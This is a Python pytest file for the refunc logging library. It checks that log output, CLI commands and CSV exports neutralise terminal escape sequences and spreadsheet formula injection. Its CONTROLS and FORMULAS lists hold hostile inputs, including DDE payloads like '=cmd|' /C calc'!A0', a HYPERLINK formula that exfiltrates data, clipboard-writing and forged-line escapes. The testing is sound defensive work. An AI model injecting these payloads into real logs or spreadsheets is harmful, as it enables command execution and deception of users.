"""Text of an attacker: nothing acts on a terminal, and no cell of a table is a formula."""

from __future__ import annotations

import csv
import io
import json
import random
import re
from collections.abc import Callable
from pathlib import Path

import pytest

from refunc.journal.codec import encode_line
from refunc.logging import ExperimentTracker, MLFormatter, MLLogger
from refunc.logging.console.handler import ConsoleHandler
from refunc.logging.formatters import ColoredFormatter

pytestmark = [
    pytest.mark.crash,
    pytest.mark.extras,
    pytest.mark.timeout(3600),
    pytest.mark.usefixtures("clean_process"),
]

#: Texts that act on a terminal: cursor, colours, titles, clipboard, links, queries, bells, directions, forged lines.
CONTROLS = [
    *("\x1b[2J", "\x1b[31mred", "\x1b[1A\x1b[2K", "\x1b]0;title\x07", "\x1b]52;c;ZXZpbA==\x07"),
    "\x1b]8;;http://e\x1b\\x",
    *("\x1b[6n", "\x1b[c", "\x1bP$q\x1b\\", "\x1b[?1049h", "\x1bc", "\x1b(0", "\x9b2J", "\x9d0;t\x9c", "\x90q\x9c"),
    "\x84",
    *("a\rb", "a\r\nforged line", "a\nforged line", "\x08\x08\x08", "\x07", "\x00", "\x7f", "\x0b", "\x0c", "\x0e"),
    "\x1a",
    *("\u202eevil", "\u2066evil\u2069", "\u200f", "\u061c", "\u202d", "\u2067\u2068", "\u2028", "\u2029", "\x85"),
    "\x1c",
    *("\ud800", "\udc9b", "[bold red]markup[/]", "[link=http://e]x[/link]", "%s %n %(x)s {0}", "\t\x1b[5m", "\x1b"),
    "\x1b[",
]

FORMULAS = [
    *("=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://e?"&A1,"x")', "+1+1", "+cmd|'x'!A", "-1+1"),
    "-2+3+cmd|' /C x'!A0",
    *("a;=1+1", 'a;"=1+1', "a\t@SUM(1,1)", "a;+1+cmd|'x'!A"),
    *("@SUM(1,1)", "@x", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠x", "=\x00", '="a","b"', "=1\n=2"),
]


@pytest.mark.parametrize("colored", [True, False])
def test_no_message_acts_on_a_terminal(colored: bool, is_harmless: Callable[..., bool]) -> None:
    """Wherever it comes from: a message, a field, a name, an exception, a level."""
    said = io.StringIO()
    log = MLLogger("train", "DEBUG")
    handler = ConsoleHandler(stream=said, colored=colored)
    import logging

    logging.getLogger("train").handlers[:] = [handler]
    for form in (ColoredFormatter(), MLFormatter()):
        handler.setFormatter(form)
        for each in CONTROLS:
            log.info(each)
            log.info("%s", each, extra={"field": each, each: each}, metrics={each: 1.0}, tags={each: each})
            log.metric(each, {each: each})
            log.log_result(each, {each: each})
            logging.getLogger(f"train.{each}").warning(each)
            logging.addLevelName(35, each)
            logging.getLogger("train").log(35, each)
            try:
                raise ValueError(each)
            except ValueError:
                log.exception(each, step=1, artifacts=[each])
    logging.addLevelName(35, "Level 35")

    printed = said.getvalue()
    assert printed.count("\n") > len(CONTROLS) * 8
    assert is_harmless(printed, colored=colored)
    # A newline in a message begins no line that looks like one of ours.
    assert not [line for line in printed.splitlines() if line.startswith(("forged", "\x1b[0mforged"))]


def _hostile_run(folder: Path, each: str) -> None:
    """Write a run whose every word is *each*, as no logger of ours would."""
    (folder / "journal").mkdir(parents=True)
    words = dict.fromkeys(
        ("run_name", "experiment_id", "experiment_name", "parent_id", "host", "script", "python"), each
    )
    (folder / "run.json").write_text(json.dumps({"format": 1, "run_id": each, "start_time": 1.0, "odd": each, **words}))
    nested = {each: {each: [each, {each: each}]}}
    records = [
        {"kind": "params", "params": nested},
        {"kind": "tags", "tags": {each: each}},
        {"kind": "metrics", "metrics": {each: 1.0}, "other": nested},
        {"kind": "log", "level": "RESULT", "message": each, "metrics": {each: 1}, "other": {each: each}},
        {"kind": "log", "level": each, "message": each, "at": each, "exception": each},
        {"kind": "artifact", "name": each, "stored": each, "source": each, "type": each},
        {"kind": "attach", "name": each, "key": "probe", "path": each, "options": nested, "target": each},
        {"kind": each, each: each},
        {"kind": "end", "status": each, "error": each, "metrics": {each: 1.0}},
    ]
    lines = [{"seq": seq, "time": float(seq), "logger": each, **record} for seq, record in enumerate(records)]
    header = {"kind": "segment", "format": 1, "logger": each}
    (folder / "journal" / "w.000000.jsonl").write_bytes(b"".join(map(encode_line, [header, *lines])))


@pytest.mark.parametrize("each", CONTROLS)
def test_no_command_prints_what_acts_on_a_terminal(
    each: str, own_folder: Path, shown: Callable[..., str], is_harmless: Callable[..., bool]
) -> None:
    _hostile_run(own_folder / "experiments" / "run", each)
    (own_folder / "experiments" / "broken").mkdir()
    (own_folder / "experiments" / "broken" / "run.json").write_text(json.dumps({"format": each}))

    for arguments in (
        ["show", "run"],
        ["ls"],
        ["show", "run", "--json"],
        ["ls", "--json"],
        ["sync", "--patience", "0"],
    ):
        assert is_harmless(shown(*arguments)), arguments
    for arguments in (["show", each or "x"], ["show", "broken"], ["--store", each, "ls"], ["ls", "--experiment", each]):
        assert is_harmless(shown(*(word.replace("\x00", "") for word in arguments))), arguments


def test_a_terminal_gets_refuncs_own_colours_and_nothing_else(
    own_folder: Path, is_harmless: Callable[..., bool], in_terminal: Callable[..., str]
) -> None:
    """The same on a real pseudo-terminal, all at once."""
    for number, each in enumerate(CONTROLS):
        _hostile_run(own_folder / "experiments" / f"run{number}", each)
    commands = [["ls"], *(["show", f"run{number}"] for number in random.Random(1).sample(range(len(CONTROLS)), 5))]
    for command in commands:
        said = in_terminal(*command)
        assert said
        assert is_harmless(said, colored=True), command


def test_no_cell_of_a_table_is_a_formula(own_folder: Path) -> None:
    with ExperimentTracker("=e", "=r", logger=MLLogger("=log", "CRITICAL")) as run:
        log = MLLogger("=log", "CRITICAL")
        for each in FORMULAS:
            log.error(
                each, extra={each: each, "list": [each]}, tags={each: each}, metrics={each: -1.5}, artifacts=[each]
            )
            run.log_hyperparams({each: each})
            run.log_metrics({each: -1.5, "text": each})
        run.flush()
        log.export_logs("table.csv")

    with open("table.csv", encoding="utf-8", newline="") as file:
        rows = list(csv.reader(file))
    cells = [cell for row in rows for cell in row]
    assert len(rows) > len(FORMULAS) * 2
    assert not [cell for cell in cells if cell[:1] in set("=+@\t\r\n＝＋－＠") or re.match(r"-(?!\d+(\.\d+)?$)", cell)]
    assert not [
        cell for cell in cells if re.search(r"""[;\t\r\n]"*([=@＝＋－＠]|[+-](?!\d+(\.\d+)?([;\t\r\n]|$)))""", cell)
    ]
    assert "-1.5" in cells  # a number is none
    one_line = [each for each in FORMULAS if not set(each) & set("a\r\n\t\x00")]
    assert len(one_line) > 10
    assert all(f"'{each}" in cells for each in one_line)
